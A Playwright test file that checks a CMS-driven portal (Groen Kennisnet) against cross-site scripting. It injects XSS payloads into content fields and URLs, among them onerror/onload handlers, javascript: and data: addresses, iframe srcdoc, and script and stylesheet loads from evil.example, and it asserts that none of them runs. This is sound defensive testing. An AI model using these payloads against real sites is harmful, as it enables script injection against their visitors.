import { expect, type Page } from '@playwright/test';
import { attackPayloads } from '#tests/contract/attackPayloads.ts';
import { pointerOf, stringsIn, withStrings } from './helpers/mutations.ts';
import { ask } from './helpers/network.ts';
import { type OwnPortal, startPortal } from './helpers/ownPortal.ts';
import { heading, menuButton, untilAlive } from './helpers/reading.ts';
import { test } from './helpers/test.ts';
import { thorough } from './helpers/thorough.ts';
import { hasSamples, readSamples, type Sample, samplesNote, startTestCms, type TestCms } from './samplesCms.ts';

/*
 * Contents that try to run a script on our readers' pages. A payload that runs calls `attacked()`; one that the
 * browser's policy had to stop has already come too far, and one that asks `evil.example` for anything has, too.
 */
test.describe.configure({ mode: 'default' });

declare global {
  interface Window {
    attacked?: () => void;
    /** What got through, in words. */
    caught?: string[];
  }
}

let cms: TestCms;
let portal: OwnPortal;

test.beforeAll(async () => {
  cms = await startTestCms(readSamples().map(({ json }) => json));
  cms.answer('/nl/groenkennisnet', pageOf('/nl/groenkennisnet', []));
  portal = await startPortal({
    CMS_BASE_URL: cms.origin,
    PICTURE_HOSTS: `api.groenkennisnet.nl=${cms.origin}`,
    // Every answer is shown as it is at that moment.
    PAGE_CACHE_SECONDS: '0',
  });
});

test.afterAll(async () => {
  await portal?.close();
  await cms?.close();
});

/** A page of the first site with these elements. */
function pageOf(url: string, elements: readonly object[], title = 'Aanval') {
  return {
    type: 'page',
    title,
    url,
    language: 'nl_NL',
    metadata: { gkn_pagemetadata: { page_type: { id: 'content_page' } } },
    contents: [{ area: 'main', elements }],
  };
}

/** Everything the browser noticed since the page was opened. */
interface Alarm {
  readonly dialogs: string[];
  readonly requests: string[];
}

async function listen(page: Page): Promise<Alarm> {
  const alarm: Alarm = { dialogs: [], requests: [] };
  page.on('dialog', (dialog) => {
    alarm.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (/^(?!https?:\/\/([\w-]+\.)?localhost[:/])(?!data:image\/svg)/.test(request.url()))
      alarm.requests.push(request.url());
  });
  await page.addInitScript(() => {
    const caught: string[] = [];
    window.caught = caught;
    window.attacked = () => caught.push('a script ran');
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      caught.push(`the policy stopped ${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
  return alarm;
}

/** Does to every element of the page what readers might: points at it, gives it the focus, presses it. */
async function touchEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    // Ordinary links would carry us away; those that would run a script are followed.
    const stay = (event: Event) => {
      const link = event.target instanceof Element ? event.target.closest('a, button, summary') : null;
      if (!(link instanceof HTMLAnchorElement && /^\s*(javascript|data|vbscript)/i.test(link.href)))
        event.preventDefault();
    };
    addEventListener('click', stay, { capture: true });
    addEventListener('submit', (event) => event.preventDefault(), { capture: true });
    for (const element of document.querySelectorAll<HTMLElement>('#portal *, [role="dialog"] *')) {
      for (const type of [
        'pointerover',
        'mouseover',
        'mouseenter',
        'mousemove',
        'focusin',
        'focus',
        'toggle',
        'load',
        'error',
      ]) {
        element.dispatchEvent(new MouseEvent(type, { bubbles: false, cancelable: true }));
      }
      if (element instanceof HTMLAnchorElement || element.tagName === 'AREA') element.click();
    }
    removeEventListener('click', stay, { capture: true });
  });
}

async function expectHarmless(page: Page, alarm: Alarm, what: string): Promise<void> {
  expect(await page.evaluate(() => window.caught), what).toEqual([]);
  expect(alarm.dialogs, what).toEqual([]);
  expect(alarm.requests, what).toEqual([]);
}

/** One string that tries many ways at once, none of which swallows the next. */
const bundle = [
  `"'><img src=x onerror=attacked()>`,
  '<svg onload=attacked()></svg>',
  '<svg><a xlink:href="javascript:attacked()"><text y="1em">lees</text></a></svg>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<a href="javascript:attacked()">lees</a>',
  '<a href="/" onclick="attacked()">lees</a>',
  '<p onmouseover="attacked()" tabindex="0">hallo</p>',
  '<p style="background:url(https://evil.example/x.png)">hallo</p>',
  '<img src="https://evil.example/x.png">',
  '<details open ontoggle=attacked()><summary>meer</summary></details>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '</script><script>attacked()</script>',
  '<script src="https://evil.example/x.js"></script>',
].join('');

/** Addresses that are none. */
const addresses = [
  'javascript:attacked()',
  'java\tscript:attacked()',
  'data:text/html,<script>opener.attacked()</script>',
  '//evil.example/x',
];

/** Fields that say what a thing is: changed, the page would be another one or none. They are attacked one by one. */
const structural =
  /^(type|subtype|identifier|url|link|language|locale|id|value|contenttype|contentarea_template|contentarea_footer_template|source)$/;

const isAddressField = /^(url|link|source|.*hyperlink|video_header.*|link_extra_image)$/;

function addressOf({ json }: Sample): string {
  return typeof json === 'object' && json !== null && 'url' in json ? String(json.url) : '';
}

/** Where readers meet a sample: its own page, or for a section the home page around which it stands. */
function placeOf(sample: Sample): { path: string; site: string; isSection: boolean } {
  const [, , cname = '', ...rest] = addressOf(sample)
    .replace(/\.htm$/, '')
    .split('/');
  const isSection = addressOf(sample).includes('paginasectie');
  return { site: cname, path: isSection ? '/' : `/${rest.join('/')}`, isSection };
}

/**
 * Samples whose addresses `npm test` attacks all at once, in a page that runs; of the others it attacks every string in
 * turn. `npm run test:full` does both to all.
 */
const allAtOnce = ['07-dossier-en.json', '11-home-en.json'];

/**
 * Samples whose fields others have, too: what an attack in one of their strings does is seen there, and below, where every
 * payload is in every kind of field.
 */
const likeOthers = ['01-home-nl.json', '03-content-nl.json', '12-section-menu.json', '14-section-legal.json'];

/** Samples whose texts `npm test` attacks all at once, in a page that runs. */
const textsAtOnce = ['05-news-nl.json', '11-home-en.json', '12-section-menu.json'];

for (const sample of readSamples()) {
  const { path, site, isSection } = placeOf(sample);
  const isAtOnce = allAtOnce.includes(sample.name);

  test.describe(sample.name, () => {
    test.afterEach(() => cms.answer(addressOf(sample), sample.json));

    test(
      'does nothing when all its texts at once carry attacks',
      textsAtOnce.includes(sample.name) ? {} : thorough,
      async ({ page }) => {
        const alarm = await listen(page);
        const attacked = withStrings(sample.json, ({ field, value }) =>
          structural.test(field) ? value : value + bundle,
        );
        cms.answer(addressOf(sample), attacked);
        await page.goto(portal.address(path, site));
        await untilAlive(page);
        // The attack has reached the page: its words stand there, as words.
        if (!isSection) await expect(heading(page)).toContainText('onerror=attacked()');
        await menuButton(page).click();
        await expect(page.getByRole('dialog')).toBeVisible();
        await touchEverything(page);
        await expectHarmless(page, alarm, 'texts');
      },
    );

    test('does nothing when all its addresses at once are attacks', isAtOnce ? {} : thorough, async ({ page }) => {
      const alarm = await listen(page);
      for (const address of addresses) {
        const attacked = withStrings(sample.json, ({ field, value, path: place }) => {
          if (field === 'html')
            return value.replaceAll(/(href|src|action)="[^"]*"/g, () => `href="${address.replaceAll('"', '&quot;')}"`);
          return isAddressField.test(field) && place.length > 1 ? address : value;
        });
        cms.answer(addressOf(sample), attacked);
        await page.goto(portal.address(path, site));
        await untilAlive(page);
        await menuButton(page).click();
        await expect(page.getByRole('dialog')).toBeVisible();
        await touchEverything(page);
        await expectHarmless(page, alarm, address);
      }
    });

    test(
      'sends no document with anything dangerous in it, whichever of its strings is the attack',
      isAtOnce || likeOthers.includes(sample.name) ? thorough : {},
      async ({ page }) => {
        await page.goto(portal.address('/deze-pagina-is-er-niet', site));
        // A page of ours takes no HTML as text: what it fetches is read in another, where hashes can be made.
        const reader = await page.context().newPage();
        await reader.goto(portal.address('/robots.txt', site));
        const found: string[] = [];
        for (const place of stringsIn(sample.json)) {
          for (const attack of isAddressField.test(place.field)
            ? [place.value + bundle, 'javascript:attacked()']
            : [place.value + bundle]) {
            const here = pointerOf(place);
            cms.answer(
              addressOf(sample),
              withStrings(sample.json, (other) => (pointerOf(other) === here ? attack : other.value)),
            );
            const dangers = await reader.evaluate(inspect, await page.evaluate(fetchDocument, path));
            found.push(...dangers.map((danger) => `${here}: ${danger}`));
          }
        }
        expect(found).toEqual([]);
      },
    );
  });
}

interface Fetched {
  readonly status: number;
  readonly text: string;
  readonly address: string;
  readonly policy: string;
}

async function fetchDocument(path: string): Promise<Fetched> {
  const response = await fetch(path);
  const policy = response.headers.get('content-security-policy') ?? '';
  return { status: response.status, text: await response.text(), address: location.href, policy };
}

/** Has the browser parse a document without running it, and names what could harm. */
async function inspect({ status, text, address, policy }: Fetched): Promise<string[]> {
  const page = new DOMParser().parseFromString(text, 'text/html');
  const dangers: string[] = [];
  if (status >= 500 || !page.getElementById('portal')) dangers.push(`status ${status}, no page`);
  for (const element of page.querySelectorAll('*')) {
    const name = element.localName;
    // What our own build made may stand in the document: the policy names it word for word.
    const bytes = /^(script|style)$/.test(name) && new TextEncoder().encode(element.textContent);
    const hash = bytes && btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))));
    const isNamed = hash !== false && policy.includes(`'sha256-${hash}'`);
    if (/^(iframe|frame|object|embed|base|portal|foreignobject|animate)$/.test(name)) dangers.push(`<${name}>`);
    if (name === 'style' && !isNamed) dangers.push('<style>');
    if (name === 'meta' && element.hasAttribute('http-equiv')) dangers.push('<meta http-equiv>');
    const source = element.getAttribute('src') ?? '';
    const isData = element.id === 'portal-state' || element.getAttribute('type') === 'application/ld+json';
    const isOwn = source.startsWith('/assets/') || (source === '' && (isData || isNamed));
    if (name === 'script' && !isOwn) dangers.push(`<script src="${source}">${element.textContent}`);
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^srcdoc$|^formaction$/.test(attribute)) dangers.push(`<${name} ${attribute}>`);
      if (!/^(href|src|action|xlink:href|data|poster)$/.test(attribute)) continue;
      const { protocol, host } = new URL(value, address);
      if (!/^(https?|mailto|tel):$/.test(protocol)) dangers.push(`<${name} ${attribute}="${value}">`);
      const isLoaded =
        name !== 'a' &&
        host !== new URL(address).host &&
        !/canonical|alternate/.test(element.getAttribute('rel') ?? '');
      if (isLoaded || host === 'evil.example') dangers.push(`<${name} ${attribute}="${value}"> is elsewhere`);
    }
  }
  return dangers;
}

test('every payload in every field of a text, a fold, a list, tiles and a picture does nothing', async ({ page }) => {
  const alarm = await listen(page);
  const url = '/nl/groenkennisnet/aanval';
  const elements = attackPayloads.flatMap(({ text }) => [
    { type: 'text', title: text, html: text },
    { type: 'accordion', title: text, items: [{ title: text, html: text }] },
    {
      type: 'itemlist',
      title: text,
      items: [{ title: text, url: text, lead: text, location: text }],
      more: { title: text, url: text },
    },
    { type: 'tiles', title: text, items: [{ title: text, url: text, lead: text }] },
    {
      type: 'image',
      caption: text,
      image: {
        source: 'https://api.groenkennisnet.nl/upload_mm/foto.jpg',
        alternative_text: text,
        photographer: text,
        photographer_hyperlink: text,
        photo_license: text,
        photo_license_hyperlink: text,
      },
    },
    { type: text, html: text },
  ]);
  cms.answer(url, pageOf(url, elements));
  const response = await page.goto(portal.address('/aanval'));
  expect(response?.status()).toBe(200);
  expect(response?.headers()['content-security-policy']).toMatch(
    /script-src 'self' 'sha256-[^']+'( https:\/\/\w+\.groenkennisnet\.nl)*;/,
  );
  await untilAlive(page);
  await expect(page.getByRole('main').locator('details')).toHaveCount(attackPayloads.length);
  await touchEverything(page);
  await expectHarmless(page, alarm, 'all payloads');
});

test('plain-text fields show an attack as the text it is', async ({ page }) => {
  const url = '/nl/groenkennisnet/letterlijk';
  const attack = `<script>attacked()</script> & "aanval" <img src=x onerror='attacked()'>`;
  cms.answer(url, {
    ...pageOf(
      url,
      [
        {
          type: 'tiles',
          title: `tegels ${attack}`,
          items: [{ title: `tegel ${attack}`, url: '/nl/groenkennisnet', lead: `inleiding ${attack}` }],
        },
      ],
      `titel ${attack}`,
    ),
    metadata: { gkn_pagemetadata: { page_type: { id: 'content_page' }, lead: `lead ${attack}` } },
  });
  await page.goto(portal.address('/letterlijk'));
  await expect(heading(page)).toHaveText(`titel ${attack}`);
  await expect(page).toHaveTitle(`titel ${attack} – Groen Kennisnet`);
  await expect(page.getByRole('heading', { name: `tegels ${attack}` })).toBeVisible();
  await expect(page.getByRole('link', { name: `tegel ${attack}` })).toBeVisible();
  for (const field of ['lead', 'inleiding']) await expect(page.getByText(`${field} ${attack}`)).toBeVisible();
  await expect(page.locator('meta[name="description"]')).toHaveAttribute('content', `lead ${attack}`);
});

test('what visitors type into the address is text, too', async ({ page }) => {
  const alarm = await listen(page);
  const typeable = attackPayloads.filter(({ name }) => /^(script|handler) /.test(name));
  expect(typeable.length).toBeGreaterThan(10);
  for (const { name, text } of typeable) {
    const typed = encodeURIComponent(text);
    const path = name.startsWith('script')
      ? `/${typed}?language=${typed}`
      : `/zoeken/${typed}?jaar=${typed}&srt=${typed}`;
    await page.goto(portal.address(path));
    await untilAlive(page);
    await expectHarmless(page, alarm, path);
  }
});

test('code that got in all the same brings no HTML, no script and no styles with it, and is told of', async ({
  page,
  address,
  port,
}) => {
  const told = async () => {
    const { text } = await ask({ port, path: '/healthz' });
    return (JSON.parse(text) as { events: Record<string, number> }).events['policy.violated'] ?? 0;
  };
  const before = await told();
  await page.goto(address('/', 'eurcaw-pigs'));
  await untilAlive(page);
  const outcome = await page.evaluate(async () => {
    const stopped: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
      stopped.push(`${effectiveDirective} ${disposition}`);
    });
    const attempt = (act: () => void) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } };
    const style = document.createElement('style');
    style.textContent = 'h1 { display: none }';
    const attempts = {
      html: attempt(() => {
        document.body.innerHTML = '<b>x</b>';
      }),
      script: attempt(() => {
        document.createElement('script').src = '/x.js';
      }),
      policy: attempt(() => trustedTypes.createPolicy('evil', {})),
      style: attempt(() => document.head.append(style)),
      attribute: attempt(() => document.body.setAttribute('style', 'display: none')),
    };
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { ...attempts, stopped };
  });
  expect(outcome).toEqual({
    ...{ html: 'TypeError', script: 'TypeError', policy: 'TypeError', style: 'done', attribute: 'done' },
    stopped: [
      'require-trusted-types-for enforce',
      'require-trusted-types-for enforce',
      'trusted-types enforce',
      'style-src-elem enforce',
      'style-src-attr enforce',
    ],
  });
  await expect(heading(page)).toBeVisible();
  await expect.poll(told).toBe(before + 5);
});

if (!hasSamples) {
  test(`every string of the samples in turn is harmless${samplesNote}`, () => test.skip());
}
